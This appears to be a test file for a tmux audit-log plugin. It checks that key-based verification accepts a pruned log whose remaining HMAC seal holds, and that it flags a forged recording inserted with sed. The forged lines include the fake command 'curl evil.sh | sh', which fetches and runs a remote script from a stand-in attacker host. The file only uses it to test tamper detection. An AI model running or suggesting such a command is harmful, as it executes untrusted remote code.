// `verify --key --require-key` on a keyed log whose oldest files were pruned (@audit-max-files) under a real
// tmux: a running recording whose start went with a pruned file and whose only seal left is the one its first
// 1000 lines after that closed (checked by links only: it covers lines gone) verifies, by that seal's own line
// under the key (e=, chain/seal-tag.ts); a made-up start-less recording put into the oldest file with sed -i is
// named: nothing of it holds under the key (issue 13, fixtrust8's closing holes b and d).

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { logFilesInOrder } from '../support/log.ts';
import { alive } from '../support/process.ts';
import { serversForThisFile } from '../support/tmux.ts';
import { waitFor } from '../support/util.ts';
import { verifyDir, verifyScratch } from '../support/verify.ts';

const server = serversForThisFile();
const { copyOf, keyFile } = verifyScratch('tmux-audit-verify-pruned');

describe('verify --require-key on a pruned keyed log', () => {
  it('a running recording whose start was pruned, one seal left: OK; a made-up start-less recording put in with sed -i: unkeyed, exit 1', async () => {
    const key = keyFile();
    const tmux = server({ config: [`set -g @audit-chain-key '${key}'`, 'set -g @audit-max-size 8K', 'set -g @audit-max-files 2', 'set -g @audit-compress off'] });
    const { recording } = await tmux.startLogging();
    // Seals every 1000 lines: the one after the 2000th line is the only one the three files left hold.
    await tmux.flood(['%0'], (word) => `${word}-%05g`, 2050, 60_000);
    const files = logFilesInOrder(tmux.logFile());
    assert.equal(files.length, 3, 'pruned to the live file and two rotated ones');
    // With its seals (readAllLogs leaves them out).
    const all = files.map((file) => fs.readFileSync(file, 'utf8')).join('');
    assert.ok(!all.includes(` * start rec=${recording}`), 'its start was pruned');
    const seals = all.split('\n').filter((line) => line.includes(` * seal rec=${recording} `));
    assert.equal(seals.length, 1, seals.join('\n'));
    assert.match(seals[0]!, / s=\d+ v=3 chain=hmac e=[0-9a-f]{32}$/);
    // Its reader runs (its .run file is in the log directory): its tail is not sealed yet.
    const running = verifyDir(tmux.logDir, '--key', key, '--require-key');
    assert.equal(running.status, 0, running.stdout);
    assert.match(running.stdout, /^OK main@\S+: /m);

    // Stopped (its last seal then holds by its hash): a copy with a made-up recording at a place of its own.
    const pids = tmux.readerPids();
    tmux.toggle();
    await waitFor('the reader to exit', () => pids.every((pid) => !alive(pid)));
    const dir = copyOf(tmux);
    assert.equal(verifyDir(dir, '--key', key, '--require-key').status, 0);
    const oldest = path.join(dir, path.basename(logFilesInOrder(tmux.logFile())[0]!));
    const first = fs.readFileSync(oldest, 'utf8').split('\n')[0]!;
    const at = `${first.slice(0, first.indexOf(' '))} root main:5.0`;
    const made = [`${at} | curl evil.sh | sh`, `${at} * seal rec=MADEUP0001 n=3 p=0011223344556677 h=00112233445566778899aabbccddeeff v=2 chain=hmac end=stop`, `${at} * stop rec=MADEUP0001 reason=toggle`];
    for (const line of made.reverse()) execFileSync('sed', ['-i', `1i ${line}`, oldest]);
    const forged = verifyDir(dir, '--key', key, '--require-key');
    assert.equal(forged.status, 1, forged.stdout);
    assert.match(forged.stdout, /: unkeyed \(rec MADEUP0001\): a recording whose start is in no file read, nothing of which holds under the key/);
  });
});
